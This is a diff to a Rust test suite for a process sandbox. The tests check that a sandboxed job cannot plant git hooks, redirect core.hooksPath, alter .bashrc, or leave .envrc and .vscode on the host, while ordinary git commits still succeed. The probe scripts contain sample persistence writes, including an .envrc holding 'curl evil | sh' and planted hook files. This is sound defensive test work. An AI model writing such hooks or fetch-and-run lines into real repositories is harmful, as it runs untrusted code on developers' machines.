@@ -421,6 +421,7 @@ fn g10_protected_paths_in_a_writable_workspace_stay_read_only() {
     require!("g10_protected_paths_in_a_writable_workspace_stay_read_only");
     let ws = host_dir("ws-protected");
     std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
+    std::fs::create_dir_all(ws.join(".git/objects")).unwrap();
     std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
     std::fs::write(ws.join(".bashrc"), "# rc\n").unwrap();
     let job = probe_py(
@@ -429,8 +430,12 @@ attempt("hook", lambda: open("/workspace/.git/hooks/pre-commit", "w").write("cur
 attempt("config", lambda: open("/workspace/.git/config", "a").write("[core]\n\thooksPath = /tmp"))
 attempt("bashrc", lambda: open("/workspace/.bashrc", "a").write("evil"))
 attempt("rename_git", lambda: os.rename("/workspace/.git", "/workspace/git.bak"))
+attempt("rename_hooks", lambda: os.rename("/workspace/.git/hooks", "/workspace/.git/hooks.bak"))
 attempt("unlink_bashrc", lambda: os.unlink("/workspace/.bashrc"))
+attempt("objects", lambda: open("/workspace/.git/objects/ab", "w").write("history is writable"))
 attempt("create_vscode", lambda: os.mkdir("/workspace/.vscode"))
+attempt("create_envrc", lambda: open("/workspace/.envrc", "w").write("curl evil | sh"))
+attempt("create_info", lambda: os.makedirs("/workspace/.git/info"))
 attempt("ordinary", lambda: open("/workspace/notes.txt", "w").write("fine"))
 "#,
     )
@@ -441,30 +446,71 @@ attempt("ordinary", lambda: open("/workspace/notes.txt", "w").write("fine"))
     for label in ["hook", "config", "bashrc"] {
         assert!(["EROFS", "EACCES"].contains(&line(&out, label)), "{label}: {out}");
     }
-    for label in ["rename_git", "unlink_bashrc"] {
+    for label in ["rename_git", "rename_hooks", "unlink_bashrc"] {
         assert!(["EBUSY", "EROFS", "EACCES"].contains(&line(&out, label)), "{label}: {out}");
     }
-    assert_eq!(line(&out, "ordinary"), "OK", "{out}");
-    // Absent protected paths are creatable, and the report says which were absent.
-    assert_eq!(line(&out, "create_vscode"), "OK", "{out}");
-    let view = r.enforcement.iter().find(|e| e.mechanism == Mechanism::MountNamespace).unwrap();
-    assert!(view.detail.contains("read-only inside the workspace: .git .bashrc"), "{}", view.detail);
-    // The host sees nothing planted.
-    assert!(!ws.join(".git/hooks/pre-commit").exists());
+    for label in ["ordinary", "objects"] {
+        assert_eq!(line(&out, label), "OK", "{label}: {out}");
+    }
+    // Absent protected paths can be made during the run, and are gone after it; the report
+    // says what was protected and what was removed.
+    for label in ["create_vscode", "create_envrc", "create_info"] {
+        assert_eq!(line(&out, label), "OK", "{label}: {out}");
+    }
+    let details: Vec<&str> =
+        r.enforcement.iter().filter(|e| e.mechanism == Mechanism::MountNamespace).map(|e| e.detail.as_str()).collect();
+    assert!(details[0].contains("read-only inside the workspace: .git/hooks .git/config .bashrc;"), "{details:?}");
+    assert!(details[1].ends_with("where a protected path was absent: .git/info .envrc .vscode"), "{details:?}");
+    // The host sees nothing planted, and the ordinary work.
+    for planted in [".git/hooks/pre-commit", ".vscode", ".envrc", ".git/info", "git.bak"] {
+        assert!(std::fs::symlink_metadata(ws.join(planted)).is_err(), "{planted} is on the host");
+    }
     assert_eq!(std::fs::read_to_string(ws.join(".git/config")).unwrap(), "[core]\n");
     assert_eq!(std::fs::read_to_string(ws.join(".bashrc")).unwrap(), "# rc\n");
-    assert!(ws.join(".git").is_dir() && !ws.join("git.bak").exists());
+    assert_eq!(std::fs::read_to_string(ws.join("notes.txt")).unwrap(), "fine");
+    assert_eq!(std::fs::read_to_string(ws.join(".git/objects/ab")).unwrap(), "history is writable");
     // A protected path that is a symlink refuses the grant.
     let linked = host_dir("ws-linked");
     std::os::unix::fs::symlink("/tmp", linked.join(".git")).unwrap();
-    let r = run(sh("echo ran").with_workspace(&linked, Access::ReadWrite).unwrap());
+    let refused = block_on(tier().run(&sh("echo ran").with_workspace(&linked, Access::ReadWrite).unwrap()));
     assert!(
-        matches!(&r.status, Status::FailedToStart { reason } if reason.contains(".git in the read-write workspace is a symlink")),
-        "{r:#?}"
+        matches!(&refused, Err(stockade_process::LaunchError::Misconfigured(m)) if m.contains(".git in the read-write workspace")),
+        "{refused:?}"
     );
-    assert_eq!(stdout(&r), "");
     let _ = std::fs::remove_dir_all(&ws);
     let _ = std::fs::remove_dir_all(&linked);
+}
+
+#[test]
+fn g10_git_commits_in_a_writable_workspace_and_cannot_plant_a_hook() {
+    require!("g10_git_commits_in_a_writable_workspace_and_cannot_plant_a_hook");
+    let Some(git) = ["/usr/bin/git", "/usr/local/bin/git"].into_iter().find(|g| Path::new(g).exists()) else {
+        assert!(std::env::var_os("STOCKADE_REQUIRE_ALL").is_none(), "git is not installed");
+        eprintln!("SKIPPED g10_git_commits: no git");
+        return;
+    };
+    let ws = host_dir("ws-git");
+    let host_git = |args: &[&str]| {
+        let o = std::process::Command::new(git).args(args).current_dir(&ws).output().unwrap();
+        assert!(o.status.success(), "{args:?}: {}", String::from_utf8_lossy(&o.stderr));
+        String::from_utf8_lossy(&o.stdout).into_owned()
+    };
+    host_git(&["init", "-q", "-b", "main"]);
+    std::fs::write(ws.join("a.txt"), "one\n").unwrap();
+    let script = format!(
+        "cd /workspace && export HOME=/tmp GIT_AUTHOR_NAME=g GIT_AUTHOR_EMAIL=g@x GIT_COMMITTER_NAME=g GIT_COMMITTER_EMAIL=g@x \
+         && {git} add a.txt && {git} commit -q -m from-the-sandbox && echo committed; \
+         echo evil > .git/hooks/post-checkout 2>/dev/null && echo hook-planted; \
+         {git} config core.hooksPath /tmp 2>/dev/null && echo config-changed; true"
+    );
+    let r = run(sh(&script).with_workspace(&ws, Access::ReadWrite).unwrap());
+    let out = stdout(&r);
+    assert_eq!(out, "committed\n", "{out} {}", stderr(&r));
+    // Judged by the host's git: the commit is there, and nothing that runs was added.
+    assert_eq!(host_git(&["log", "--format=%s"]), "from-the-sandbox\n");
+    assert!(!ws.join(".git/hooks/post-checkout").exists());
+    assert!(!host_git(&["config", "--list", "--local"]).contains("hookspath"));
+    let _ = std::fs::remove_dir_all(&ws);
 }
 
 #[test]
